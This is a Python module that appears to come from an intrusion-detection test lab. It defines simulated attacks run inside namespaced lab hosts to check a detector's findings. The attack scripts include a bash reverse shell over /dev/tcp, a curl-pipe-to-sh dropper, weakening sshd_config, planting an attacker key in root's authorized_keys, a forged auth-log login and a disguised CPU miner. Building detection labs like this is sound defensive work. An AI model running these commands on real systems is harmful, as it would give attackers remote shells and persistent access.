"""The attack library. Every attack runs inside one chosen lab host (nsenter into its namespaces) and is
harmless by construction: CPU loops on /dev/zero, connections only to the lab's attacker namespace,
files only inside the host's own copies (its /tmp, /etc/ssh, ~/.ssh, /var/log).

`start_attack` returns a running attack (its processes' group ids); `stop_attack` ends its processes.
One-shot attacks (a config edit, a log line, the ~200 ms dropper) are done when `start_attack` returns.
"""

from __future__ import annotations

import contextlib
import os
import signal
import subprocess
from dataclasses import dataclass, field

import psutil

from herdwatch.lab.netns import enter_command

REVERSE_SHELL_PORT = 4444
PAYLOAD_PORT = 8000
LISTENER_PORT = 31337
UNUSUAL_SOURCE = "203.0.113.77"
"""A documentation address (TEST-NET-3): it only ever appears in an auth log line, no traffic goes there."""
ATTACKER_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAttackerKeyLab000000000000000000000000 root@kali"


@dataclass(frozen=True)
class Attack:
    name: str
    what: str
    script: str
    """Shell run inside the host; {attacker} is the attacker namespace's address, {python} the interpreter."""
    lasting: bool
    """True: the script keeps running until the attack is stopped."""
    evidence: tuple[str, ...] = ()
    """What a finding about this attack names (any one, in its subject, explanation or details; any case): a
    finding on the attacked host in the attack's window that names none of them is not credited to it."""


ATTACKS: dict[str, Attack] = {a.name: a for a in [
    Attack("cryptominer", "a CPU burner copied to /tmp and started from there",
           "mkdir -p /tmp/.cache && cp /usr/bin/sha256sum /tmp/.cache/kworkerds && "
           "exec nice -n 19 /tmp/.cache/kworkerds /dev/zero", True, ("kworkerds", "cpu_pct")),
    Attack("reverse_shell", f"bash -i connected to a listener in the attacker namespace (:{REVERSE_SHELL_PORT})",
           f"exec /bin/bash -c 'exec /bin/bash -i >/dev/tcp/{{attacker}}/{REVERSE_SHELL_PORT} 0>&1 2>&1'", True,
           ("bash -i", f"/{REVERSE_SHELL_PORT}", f":{REVERSE_SHELL_PORT}")),
    Attack("backdoor_port", f"a new listening socket on :{LISTENER_PORT}",
           f"exec {{python}} -m herdwatch.lab.workloads.holder {LISTENER_PORT}", True,
           (str(LISTENER_PORT),)),
    Attack("sshd_tamper", "sshd_config weakened: root login and passwords allowed",
           "sed -i '1i PermitRootLogin yes\\nPasswordAuthentication yes' /etc/ssh/sshd_config", False,
           ("sshd", "ssh-")),
    Attack("authorized_key", "an attacker's key appended to root's authorized_keys",
           f"echo '{ATTACKER_KEY}' >> /root/.ssh/authorized_keys", False,
           ("authorized_keys",)),
    Attack("unusual_login", f"a password login as root from {UNUSUAL_SOURCE} (auth log line)",
           "echo \"$(date '+%b %d %H:%M:%S') $(hostname) sshd[4242]: Accepted password for root from "
           f"{UNUSUAL_SOURCE} port 40022 ssh2\" >> /var/log/auth.log", False,
           (UNUSUAL_SOURCE.rsplit(".", 1)[0] + ".",)),
    Attack("dropper", "curl | sh: a script that lives ~200 ms and leaves /tmp/.lab-dropped",
           f"curl -fsS --max-time 3 http://{{attacker}}:{PAYLOAD_PORT}/update.sh | sh", False,
           ("update.sh", "lab-dropped", f"/{PAYLOAD_PORT}", f":{PAYLOAD_PORT}")),
    Attack("container_hog", "a container-style CPU hog (its own PID namespace) in the host",
           "exec unshare --pid --fork --mount-proc nice -n 19 /usr/bin/md5sum /dev/zero", True,
           ("md5sum", "cpu_pct")),
]}


@dataclass
class RunningAttack:
    attack: str
    slot: str
    host_id: str
    groups: list[int] = field(default_factory=list)


def attack_names() -> list[str]:
    return sorted(ATTACKS)


def start_attack(name: str, init_pid: int, slot: str, host_id: str, attacker_ip: str, python: str) -> RunningAttack:
    if name not in ATTACKS:
        raise KeyError(f"no attack {name!r}; attacks: {', '.join(attack_names())}")
    attack = ATTACKS[name]
    script = attack.script.replace("{attacker}", attacker_ip).replace("{python}", python)
    argv = enter_command(init_pid, ["/bin/sh", "-c", script])
    running = RunningAttack(name, slot, host_id)
    if attack.lasting:
        proc = subprocess.Popen(argv, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                                stderr=subprocess.DEVNULL, start_new_session=True)
        running.groups.append(proc.pid)
    else:
        result = subprocess.run(argv, capture_output=True, text=True, timeout=30)
        if result.returncode != 0:
            raise RuntimeError(f"attack {name} on {host_id} failed ({result.returncode}): {result.stderr.strip()}")
    return running


def stop_attack(running: RunningAttack) -> None:
    """End every process the attack started: its process group and every descendant, also one that made a
    process group of its own (`bash -i` does, for job control: it outlived its stop and went on being
    reported after its ground-truth window)."""
    for group in running.groups:
        try:
            descendants = psutil.Process(group).children(recursive=True)
        except psutil.Error:
            descendants = []
        with contextlib.suppress(ProcessLookupError):
            os.killpg(group, signal.SIGKILL)
        for proc in descendants:
            with contextlib.suppress(psutil.Error):
                proc.kill()
        with contextlib.suppress(ChildProcessError):  # started by another process: its parent reaps it
            os.waitpid(group, 0)
